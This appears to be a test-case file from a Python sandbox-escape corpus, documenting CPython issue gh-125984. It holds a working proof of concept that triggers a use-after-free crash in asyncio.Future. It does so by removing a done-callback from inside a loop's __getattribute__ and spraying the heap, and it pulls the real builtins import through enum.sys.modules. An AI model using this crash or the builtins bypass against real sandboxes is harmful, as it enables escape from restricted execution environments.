# id: asyncio-future-call-soon
# family: memory-safety
# kind: crash
# invariant: A, G
# origin: CPython report gh-125984
# technique: the loop's __getattribute__ removes the callback that a future is about to hand to it
# needs: a jail that lets asyncio through
# pythons: 3.11.2, 3.12.1, 3.13.0
# stopped-by: builtins, permits
# fix: structural
# alive-when: crash

import enum

load = enum.sys.modules["builtins"].__import__
asyncio = load("asyncio")


class Loop(asyncio.AbstractEventLoop):
    def __getattribute__(self, name):
        if name == "call_soon" and armed:
            future.remove_done_callback(done)
            refill.extend(bytes([255]) * 40 for _ in range(500))
        return object.__getattribute__(self, name)

    def call_soon(self, *args, **keywords):
        pass

    def get_debug(self):
        return False


class Done:
    def __eq__(self, other):
        return True

    def __call__(self, future):
        pass


armed = False
refill = []
future = asyncio.Future(loop=Loop())
done = Done()
future.add_done_callback(Done())
armed = True
future.set_result(1)
